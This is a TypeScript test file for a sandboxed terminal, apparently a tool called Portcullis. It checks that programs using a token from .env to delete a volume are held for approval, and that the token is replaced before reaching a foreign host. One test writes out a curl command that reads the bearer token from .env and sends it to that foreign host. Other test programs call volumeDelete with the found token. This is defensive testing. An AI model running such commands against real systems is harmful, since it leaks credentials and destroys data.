import assert from 'node:assert/strict';
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { editorPaths } from '../../../scripts/setup/editor.mjs';
import { Disposables } from '../../support/disposables';
import { temporaryFolder } from '../../support/folders';
import type { InteractiveShell } from '../../support/interactive-shell';
import { until } from '../../support/until';
import { incidentPrograms } from './support/incident-programs';
import { API, FOREIGN, serveIncident, type IncidentServers } from './support/incident-servers';
import { SealedWindow } from './support/sealed';

const TOKEN = 'c41f2a7e-' + '93d8-4b06-a5e1-7f20d96b38ca';

/** A program finds a token and deletes a volume with it, in a sealed terminal, where no hook and no gate sees it. */
describe('The incident, in a sealed terminal', function () {
  this.timeout(120_000);
  const owner = new Disposables();
  const programs = incidentPrograms(editorPaths().node);
  let servers: IncidentServers;
  let sealed: SealedWindow;
  let bash: InteractiveShell;
  let shown = '';

  before(async () => {
    servers = await serveIncident(owner);
    const authority = path.join(await temporaryFolder(owner), 'authority.pem');
    await writeFile(authority, servers.authority);
    const before = process.env.SSL_CERT_FILE;
    process.env.SSL_CERT_FILE = authority;
    await owner.add(() => {
      if (before === undefined) delete process.env.SSL_CERT_FILE;
      else process.env.SSL_CERT_FILE = before;
    });
    sealed = await SealedWindow.start(owner, {
      egress: { upstream: { proxy: servers.proxy, except: [] } },
      prepare: async ({ workspace: [folder = ''] }) => {
        await writeFile(path.join(folder, '.env'), `RAILWAY_TOKEN=${TOKEN}\n`);
        for (const [name, text] of programs.flatMap(({ files }) => Object.entries(files))) {
          await mkdir(path.dirname(path.join(folder, name)), { recursive: true });
          await writeFile(path.join(folder, name), text);
        }
      },
    });
    bash = await sealed.terminal(owner);
  });
  after(() => owner.dispose());

  /** Types a line, decides on the request that it sends. @returns what the terminal showed */
  async function decided(
    line: string,
    volume: string,
    choice: 'approve' | 'deny',
  ): Promise<string> {
    const { window } = sealed;
    let before = window.of('hold').length;
    bash.send(`VOLUME=${volume} ${line}`);
    const next = () => until('the request is held', () => window.of('hold')[before]);
    // A script that sends something is asked about with its line already; what it sends is a question of its own.
    while (!(await next()).view.headline.includes(volume)) {
      await window.decide(await next(), 'approve');
      before += 1;
    }
    const hold = await next();
    assert.match(hold.view.asker.label, /request/iu);
    await window.decide(hold, choice);
    await bash.untilPrompt();
    const said = bash.printed();
    shown += said;
    const others = window.of('hold').filter(({ view }) => view.headline.includes(volume));
    assert.equal(others.length, 1, 'asked once');
    return said;
  }

  for (const [at, { name, build, line }] of programs.entries()) {
    it(`${name}: held; denied, nothing arrives; approved, one request arrives`, async () => {
      if (build !== undefined) assert.doesNotMatch(await bash.run(build), /error/u);
      const before = servers.arrived.length;
      assert.match(await decided(line, `vol_${at}a`, 'deny'), /Portcullis/u);
      assert.equal(servers.arrived.length, before);
      const said = await decided(line, `vol_${at}b`, 'approve');
      assert.match(said, /volumeDelete/u);
      const [arrived, ...more] = servers.arrived.slice(before);
      assert.equal(more.length, 0);
      assert.equal(arrived?.host, API);
      assert.equal(arrived.authorization, `Bearer ${TOKEN}`);
    });
  }

  it('a foreign host that is sent the token gets what stands for it', async () => {
    const before = servers.arrived.length;
    const line = `curl -sS -H "authorization: Bearer $(cut -d= -f2 .env)" https://${FOREIGN}/`;
    bash.send(line);
    await until('it came to an end', () => servers.arrived.length > before);
    await bash.untilPrompt();
    shown += bash.printed();
    const arrived = servers.arrived.at(-1);
    assert.equal(arrived?.host, FOREIGN);
    assert.match(arrived.authorization, /^Bearer \S{8,}$/u);
    assert.ok(!arrived.authorization.includes(TOKEN));
  });

  it('the terminal never showed the token, though each answer told it', () => {
    assert.ok(!shown.includes(TOKEN), shown);
    assert.match(shown, /echo/u);
  });
});
